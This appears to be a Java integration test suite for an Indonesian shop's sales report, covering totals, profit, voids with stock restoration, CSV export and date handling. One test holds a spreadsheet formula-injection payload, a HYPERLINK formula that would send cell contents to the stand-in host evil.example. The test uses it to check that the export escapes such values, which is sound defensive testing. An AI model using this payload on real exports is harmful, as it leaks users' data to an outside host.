package id.cermin.report;

import id.cermin.platform.BusinessDay;
import id.cermin.testing.ItServer;
import id.cermin.testing.WebSession;
import id.cermin.web.Format;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.net.http.HttpResponse;
import java.sql.SQLException;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The sales report over HTTP: today's sales with profit from the cost snapshots, totals
 * that agree with the database, and "batalkan" that needs a reason, puts stock back,
 * keeps the sale visible but out of the totals, and cannot be done twice.
 */
class SalesReportHttpIT {

    private static WebSession admin;
    private static WebSession kasir;
    private static String productId;

    @BeforeAll
    static void logIn() throws SQLException {
        String base = ItServer.baseUrl();
        admin = WebSession.loggedIn(base, "admin", "admin123");
        kasir = WebSession.loggedIn(base, "kasir", "kasir123");
        kasir.get("/kasir");
        productId = ItServer.query("SELECT id FROM product WHERE name = 'Semen Gresik PCC 40 kg'");
    }

    @Test
    void todaysSalesAreListedWithProfitAndTotalsThatAgreeWithTheDatabase() throws SQLException {
        String saleId = sell("3");
        Document page = WebSession.html(admin.get("/laporan/keluar"));
        Element row = rowOf(page, saleId);
        long price = Long.parseLong(ItServer.query("SELECT sell_price FROM product WHERE id = '" + productId + "'"));
        long cost = Long.parseLong(ItServer.query("SELECT cost_price FROM product WHERE id = '" + productId + "'"));
        assertTrue(row.text().contains(Format.rupiah(3 * price)), row.text());
        assertTrue(row.text().contains(Format.rupiah(3 * (price - cost))), row.text());

        String today = "'" + LocalDate.now(BusinessDay.DEFAULT_ZONE) + "'";
        String notVoided = " FROM sale s WHERE NOT EXISTS (SELECT 1 FROM sale_void v WHERE v.sale_id = s.id)"
                + " AND DATE(CONVERT_TZ(s.sold_at, '+00:00', '+07:00')) = " + today;
        long total = Long.parseLong(ItServer.query("SELECT COALESCE(SUM(s.total), 0)" + notVoided));
        long costs = new BigDecimal(ItServer.query("SELECT COALESCE(SUM((SELECT ROUND(SUM(l.unit_cost * l.quantity * l.unit_factor))"
                + " FROM sale_line l WHERE l.sale_id = s.id)), 0)" + notVoided)).longValueExact();
        assertEquals(Format.rupiah(total), page.getElementById("report-total").text());
        assertEquals(Format.rupiah(total - costs), page.getElementById("report-profit").text());
    }

    @Test
    void aVoidNeedsAReasonPutsStockBackAndLeavesTheTotals() throws SQLException {
        BigDecimal before = stock();
        String saleId = sell("2");
        assertEquals(0, before.subtract(new BigDecimal("2")).compareTo(stock()));
        String totalBefore = WebSession.html(admin.get("/laporan/keluar")).getElementById("report-total").text();

        admin.post("/laporan/keluar/batal", Map.of("id", saleId, "reason", "  "));
        assertNull(ItServer.query("SELECT id FROM sale_void WHERE sale_id = '" + saleId + "'"), "no reason, no void");
        assertTrue(admin.get("/laporan/keluar").body().contains("Alasan pembatalan wajib diisi"));

        HttpResponse<String> voided = admin.post("/laporan/keluar/batal",
                Map.of("id", saleId, "reason", "Salah input jumlah"));
        assertEquals(302, voided.statusCode());
        assertNotNull(ItServer.query("SELECT id FROM sale_void WHERE sale_id = '" + saleId + "'"));
        assertEquals(0, before.compareTo(stock()), "stock restored");
        assertEquals("2", ItServer.query("SELECT COUNT(*) FROM stock_movement WHERE source_id = '" + saleId + "'"));

        Document page = WebSession.html(admin.get("/laporan/keluar"));
        Element row = rowOf(page, saleId);
        assertTrue(row.hasClass("archived"), "struck through");
        assertTrue(row.text().contains("Salah input jumlah"));
        long saleTotal = Long.parseLong(ItServer.query("SELECT total FROM sale WHERE id = '" + saleId + "'"));
        assertEquals(rupiahValue(totalBefore) - saleTotal, rupiahValue(page.getElementById("report-total").text()));

        admin.post("/laporan/keluar/batal", Map.of("id", saleId, "reason", "Lagi"));
        assertTrue(admin.get("/laporan/keluar").body().contains("Transaksi ini sudah dibatalkan"));
        assertEquals("1", ItServer.query("SELECT COUNT(*) FROM sale_void WHERE sale_id = '" + saleId + "'"));
        assertEquals(0, before.compareTo(stock()), "a refused second void moves nothing");
    }

    @Test
    void theRangeIsInJakartaDays() throws SQLException {
        String saleId = sell("1");
        LocalDate yesterday = LocalDate.now(BusinessDay.DEFAULT_ZONE).minusDays(1);
        String page = admin.get("/laporan/keluar?dari=" + yesterday + "&sampai=" + yesterday).body();
        String receipt = ItServer.query("SELECT receipt_no FROM sale WHERE id = '" + saleId + "'");
        assertTrue(!page.contains(receipt), "yesterday's report does not show today's sale");
        assertTrue(admin.get("/laporan/keluar?dari=" + yesterday + "&sampai=" + yesterday.plusDays(1)).body()
                .contains(receipt));
    }

    @Test
    void theCsvHasTheSameRowsAndTotalsForExcelInIndonesian() throws SQLException {
        String saleId = sell("2");
        String receipt = ItServer.query("SELECT receipt_no FROM sale WHERE id = '" + saleId + "'");
        HttpResponse<String> csv = admin.get("/laporan/keluar/csv");
        assertEquals(200, csv.statusCode());
        assertTrue(csv.headers().firstValue("Content-Disposition").orElseThrow().contains("laporan-keluar-"));
        String body = csv.body();
        assertTrue(body.startsWith("\uFEFFNo. Nota;Waktu;Kasir;Barang;Total;Keuntungan;Status;Alasan Batal;Pelanggan;Tunai;"
                + "Transfer;QRIS;Kartu;Bon;Toko\r\n"), body);
        String total = ItServer.query("SELECT total FROM sale WHERE id = '" + saleId + "'");
        assertTrue(body.contains(receipt + ";"), body);
        assertTrue(body.contains(";2;" + total + ";"), "quantity and total as plain numbers: " + body);
        Document page = WebSession.html(admin.get("/laporan/keluar"));
        String lastLine = body.strip().substring(body.strip().lastIndexOf('\n') + 1);
        assertTrue(lastLine.startsWith("Total;;;;" + rupiahValue(page.getElementById("report-total").text()) + ";"
                + rupiahValue(page.getElementById("report-profit").text()) + ";"), lastLine);
    }

    @Test
    void aVoidReasonThatLooksLikeAFormulaReachesExcelAsText() throws SQLException {
        String saleId = sell("1");
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")";
        admin.get("/laporan/keluar");
        assertEquals(302, admin.post("/laporan/keluar/batal", Map.of("id", saleId, "reason", formula)).statusCode());
        String receipt = ItServer.query("SELECT receipt_no FROM sale WHERE id = '" + saleId + "'");
        assertEquals("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")", voidReasonInCsv(receipt),
                "the reason reaches Excel as text, an apostrophe before it");
        for (String start : new String[] {"+", "-", "@"}) {
            String other = sell("1");
            admin.post("/laporan/keluar/batal", Map.of("id", other, "reason", start + "1+1"));
            String otherReceipt = ItServer.query("SELECT receipt_no FROM sale WHERE id = '" + other + "'");
            assertEquals("'" + start + "1+1", voidReasonInCsv(otherReceipt));
        }
    }

    /** The "Alasan Batal" cell of this receipt's row in today's sales CSV, read as Excel reads it. */
    private static String voidReasonInCsv(String receipt) {
        String body = admin.get("/laporan/keluar/csv").body().replace("\uFEFF", "");
        CSVFormat format = CSVFormat.Builder.create(CSVFormat.EXCEL).setDelimiter(';').setHeader()
                .setSkipHeaderRecord(true).get();
        try (CSVParser parser = CSVParser.parse(body, format)) {
            return parser.stream().filter(r -> r.get("No. Nota").equals(receipt)).findFirst().orElseThrow()
                    .get("Alasan Batal");
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @ParameterizedTest(name = "{0}?{1} answers with a message, not an error")
    @CsvSource({"/laporan/keluar, dari=+999999999-12-31", "/laporan/keluar, sampai=-999999999-01-01",
            "/laporan/keluar, dari=1899-12-31", "/laporan/keluar, dari=2026-02-30", "/laporan/masuk, dari=+999999999-12-31",
            "/laporan/masuk, sampai=9999-12-31"})
    void aDateOutsideTheYearsOfReportsIsSaidNotFailed(String path, String query) {
        HttpResponse<String> page = admin.get(path + "?" + query.replace("+", "%2B"));
        assertEquals(200, page.statusCode(), page.body());
        assertNotNull(WebSession.html(page).getElementById("date-error"), "the page says so");
        HttpResponse<String> csv = admin.get(path + "/csv?" + query.replace("+", "%2B"));
        assertEquals(400, csv.statusCode());
        assertTrue(csv.body().contains("Tanggal tidak dikenali"), csv.body());
    }

    @Test
    void theDashboardAgreesWithTheReport() throws SQLException {
        sell("1");
        Document report = WebSession.html(admin.get("/laporan/keluar"));
        Document dashboard = WebSession.html(admin.get("/"));
        assertEquals(report.getElementById("report-profit").text(), dashboard.getElementById("profit-today").text());
        assertEquals(ItServer.query("SELECT COUNT(*) FROM sale s WHERE NOT EXISTS"
                + " (SELECT 1 FROM sale_void v WHERE v.sale_id = s.id)"), dashboard.getElementById("stat-sales").text());
        assertEquals(30, dashboard.select("svg.chart rect.bar").size(), "one bar per day");
        String newest = ItServer.query("SELECT receipt_no FROM sale ORDER BY sold_at DESC LIMIT 1");
        assertTrue(dashboard.getElementById("last-sale").text().contains(newest));
    }

    @Test
    void saleDetailShowsLinesWithCostSnapshots() throws SQLException {
        String saleId = sell("1");
        String page = admin.get("/laporan/keluar/detail?id=" + saleId).body();
        assertTrue(page.contains("Semen Gresik PCC 40 kg"));
        assertTrue(page.contains(Format.rupiah(Long.parseLong(
                ItServer.query("SELECT unit_cost FROM sale_line WHERE sale_id = '" + saleId + "'")))));
    }

    private static String sell(String quantity) {
        HttpResponse<String> response = kasir.postRepeated("/kasir/bayar", UUID.randomUUID().toString(),
                List.of(productId), List.of(quantity), "1000000", Map.of());
        assertEquals(302, response.statusCode(), response.body());
        String location = response.headers().firstValue("Location").orElseThrow();
        return location.substring(location.indexOf("id=") + 3);
    }

    private static Element rowOf(Document page, String saleId) {
        Element link = page.selectFirst("#sales-report a[href*=" + saleId + "]");
        assertNotNull(link, "sale " + saleId + " listed");
        return link.closest("tr");
    }

    private static BigDecimal stock() throws SQLException {
        return new BigDecimal(ItServer.query("SELECT stock FROM product WHERE id = '" + productId + "'"));
    }

    private static long rupiahValue(String text) {
        return Long.parseLong(text.replaceAll("[^0-9]", ""));
    }
}
